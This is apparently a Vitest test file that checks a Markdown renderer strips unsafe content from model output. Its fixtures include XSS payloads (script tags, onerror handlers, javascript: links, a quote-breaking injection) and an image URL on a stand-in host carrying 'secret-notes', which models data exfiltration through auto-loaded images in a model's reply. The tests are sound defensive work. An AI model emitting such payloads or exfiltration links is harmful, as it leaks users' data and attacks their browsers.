// @vitest-environment jsdom
import { describe, expect, it } from "vitest";

import { renderMarkdown } from "./markdown";

describe("markdown from the model", () => {
  it("renders formatting", () => {
    const html = renderMarkdown("**bold** and `code`\n\n- a\n- b");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<code>code</code>");
    expect(html).toContain("<li>a</li>");
  });

  it("removes scripts, event handlers and javascript: links", () => {
    const html = renderMarkdown(
      '<script>alert(1)</script><img src=x onerror="alert(2)">\n\n[click](javascript:alert(3))\n\n<iframe src="https://e.test"></iframe>',
    );
    expect(html).toContain("click");
    expect(html).not.toMatch(/<script|onerror|href="javascript:|<iframe/i);
  });

  it("opens links in a new tab without an opener", () => {
    const html = renderMarkdown("[docs](https://example.test/docs)");
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it("turns a remote Markdown image into a link and never into an <img>", () => {
    const html = renderMarkdown("Here: ![sales chart](https://evil.test/leak.png?d=secret-notes)");
    expect(html).not.toMatch(/<img/i);
    const root = document.createElement("div");
    root.innerHTML = html;
    const link = root.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://evil.test/leak.png?d=secret-notes");
    expect(link?.textContent).toBe("Image: sales chart");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  it("drops raw HTML that would load a remote resource by itself", () => {
    const html = renderMarkdown(
      [
        '<img src="https://evil.test/a.png">',
        '<picture><source srcset="https://evil.test/b.png"></picture>',
        '<video poster="https://evil.test/c.png" src="https://evil.test/c.mp4"></video>',
        '<audio src="https://evil.test/d.mp3"></audio>',
        '<table background="https://evil.test/e.png"><tr><td background="https://evil.test/f.png">cell</td></tr></table>',
        '<a href="https://ok.test/" ping="https://evil.test/g">link</a>',
        '<object data="https://evil.test/h"></object><embed src="https://evil.test/i">',
      ].join("\n\n"),
    );
    expect(html).toContain("cell");
    expect(html).toContain('href="https://ok.test/"');
    expect(html).not.toContain("evil.test");
  });

  it("shows a data: or relative image as its alt text only", () => {
    const html = renderMarkdown("![pixel](data:image/png;base64,iVBORw0KGgo=) and ![local](/assets/x.png)");
    expect(html).not.toMatch(/<img|data:|\/assets\/x\.png/i);
    expect(html).toContain("pixel");
    expect(html).toContain("local");
  });

  it("escapes an image's alt text and URL", () => {
    const html = renderMarkdown('![<b>x</b>"](https://e.test/?a="><script>alert(1)</script>)');
    expect(html).not.toMatch(/<script|<b>|<img/i);
  });
});

describe("raw HTML with event handlers", () => {
  it("never reaches the HTML parser with an on…= attribute (Chromium would report a CSP refusal)", () => {
    const seen: string[] = [];
    const original = DOMParser.prototype.parseFromString;
    DOMParser.prototype.parseFromString = function (this: DOMParser, text: string, type: DOMParserSupportedType) {
      seen.push(String(text));
      return original.call(this, text, type);
    } as typeof original;
    try {
      const html = renderMarkdown('Look: <img src=x onerror=alert(1)> and <b onclick="x()">b</b>\n\n<div onmouseover=\'y()\'>on = off</div>');
      expect(html).not.toMatch(/onerror|onclick|onmouseover|x-on/i);
      expect(html).toContain("on = off");
    } finally {
      DOMParser.prototype.parseFromString = original;
    }
    expect(seen.join("")).not.toMatch(/[\s/"']on[a-z]+\s*=/i);
  });
});
